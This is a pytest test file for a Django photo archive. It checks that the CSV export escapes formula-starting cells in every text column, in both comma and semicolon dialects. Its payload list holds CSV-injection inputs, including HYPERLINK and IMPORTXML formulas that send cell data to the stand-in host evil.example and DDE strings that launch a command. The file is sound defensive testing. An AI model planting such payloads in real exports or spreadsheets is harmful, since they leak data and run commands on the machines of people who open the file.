"""CSV injection: no cell of a CSV export starts a spreadsheet formula, whatever a record holds
and however it got there (the forms, an import, a restore, the shell), in both dialects.

The invariant is checked on every cell of every row: a cell never starts with = + - @ tab or
carriage return; text that does is written with a leading apostrophe, which spreadsheets
show as text and do not run.
"""

import pytest
from django.urls import reverse

from captions.models import Article, Photo, Place
from tests.builders import make_photo, make_place, production
from tests.export_helpers import body_text, csv_records

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
]
# Text columns, and how a record gets each payload without passing a form's checks.
WRITERS = {
    "supplier": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(supplier=text),
    "source_id": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(source_id=text),
    "caption": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(caption=text),
    "credit": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(credit=text),
    "date_text": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(date_text=text),
    "date_edtf": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(date_edtf=text),
    "date_precision": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(date_precision=text[:8]),
    "restrictions": lambda photo, text: Photo.objects.filter(pk=photo.pk).update(restriction_text=text),
    "place": lambda photo, text: Place.objects.filter(pk=photo.place_id).update(sublocation=text),
    "article_urls": lambda photo, text: photo.articles.add(Article.objects.create(headline="x", url=text)),
}


@pytest.fixture
def shop(client):
    client.force_login(production())
    return client


def assert_no_formula(text: str, delimiter: str):
    rows = csv_records(text, delimiter=delimiter)
    assert rows, "the export holds the photos"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    return rows


@pytest.mark.parametrize("column", sorted(WRITERS))
@pytest.mark.parametrize("dialect, delimiter", [("excel", ","), ("excel-de", ";")])
def test_no_cell_starts_a_formula_whatever_the_record_holds(shop, column, dialect, delimiter):
    photos = []
    for payload in PAYLOADS:
        photo = make_photo(place=make_place(city=f"City {len(photos)}"))
        WRITERS[column](photo, payload)
        photos.append(photo)
    text = body_text(shop.get(reverse("export_specs_csv"), {"dialect": dialect}))
    rows = assert_no_formula(text, delimiter)
    written = [row[column] for row in rows]
    for payload in PAYLOADS:  # each payload is there, as text behind an apostrophe, not dropped
        shown = payload[:8] if column == "date_precision" else payload
        assert any(cell.startswith("'") and shown in cell for cell in written), (column, payload)


def test_the_filters_are_not_echoed_in_the_file_where_they_could_start_a_formula(shop):
    make_photo(caption="=1+1 in a caption")
    response = shop.get(reverse("export_specs_csv"), {"q": "=1+1"})
    text = body_text(response)
    assert_no_formula(text, ",")
    assert text.splitlines()[0].startswith("id,supplier,")  # the header row, not the filters
    assert response["X-Archive-Selection"] == "q=%3D1%2B1"  # the filters travel URL-encoded
